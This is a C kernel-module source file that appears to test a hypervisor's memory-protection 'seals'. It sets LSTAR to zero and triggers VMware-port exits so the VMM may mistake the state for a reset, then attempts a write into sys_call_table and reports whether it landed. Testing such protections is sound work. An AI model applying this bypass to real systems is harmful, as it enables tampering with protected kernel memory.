// SPDX-License-Identifier: GPL-2.0-only
/*
 * LSTAR is 0 after a reset, and here because the guest has set it so. A VMM that reads all
 * registers and writes them back then loads a 0 that is the guest's own. QEMU does that on each
 * access to VMware's port, which a PC has (hw/i386/vmport.c vmport_ioport_read(),
 * cpu_synchronize_state()); the monitor commands stop and cont and several ports of other devices
 * do the same. Whoever takes it for a reset lifts all seals, and the store that follows lands.
 */
#include <asm/msr-index.h>
#include <linux/irqflags.h>
#include <linux/string.h>

#include "registers.h"

#define VMPORT 0x5658
#define VMPORT_MAGIC 0x564d5868
#define GET_VERSION 10

/* No system call's, as in attack_syscall.c. */
#define SLOT 400

/* True when somebody answered. */
static bool vmport(void)
{
	u32 a = VMPORT_MAGIC, b = 0, c = GET_VERSION, d = VMPORT;

	asm volatile("inl %%dx, %%eax" : "+a"(a), "+b"(b), "+c"(c), "+d"(d) : : "memory");
	return b == VMPORT_MAGIC;
}

static unsigned long store(u8 *at)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("xorb $1, (%[p])")
		     : [f] "+r"(faulted)
		     : [p] "r"(at)
		     : "memory", "cc");
	return faulted;
}

void rf_lstar_zero(struct rf_report *r, unsigned long (*set)(void *ctx, u64 value), void *ctx)
{
	unsigned long flags, faulted;
	struct rf_alias alias;
	bool zero, landed;
	u64 before;

	if (!vmport())
		return rf_skip(r, "this machine has no port of VMware's");
	if (!rf_aim(r, "sys_call_table", SLOT * sizeof(void *), sizeof(void *)) ||
	    !rf_alias_map(r, &alias))
		return;
	/* No system call on this processor until LSTAR is right again: preemption is off. */
	rf_guard_begin();
	local_irq_save(flags);
	before = rf_get_msr(MSR_LSTAR);
	/* An exit at which registers may be looked at: the next look is a while away then. */
	vmport();
	set(ctx, 0);
	zero = !rf_get_msr(MSR_LSTAR);
	vmport();
	local_irq_restore(flags);
	faulted = store(alias.at);
	landed = memcmp(alias.at, r->before, r->len);
	/* Now, or what landed is sealed: LSTAR set again may be taken for the next kernel. */
	if (landed && store(alias.at))
		rf_kept(r, "target", false);
	local_irq_save(flags);
	if (rf_get_msr(MSR_LSTAR) != before)
		set(ctx, before);
	local_irq_restore(flags);
	if (rf_guard_end())
		rf_say(r, "stuck=yes");
	rf_say(r, "lstar=%s", zero ? "zero" : "UNFORGED");
	r->outcome = landed ? RF_LANDED : faulted ? RF_FAULTED : RF_UNCHANGED;
	if (rf_get_msr(MSR_LSTAR) != before)
		rf_kept(r, "lstar", false);
	rf_alias_unmap(&alias);
}
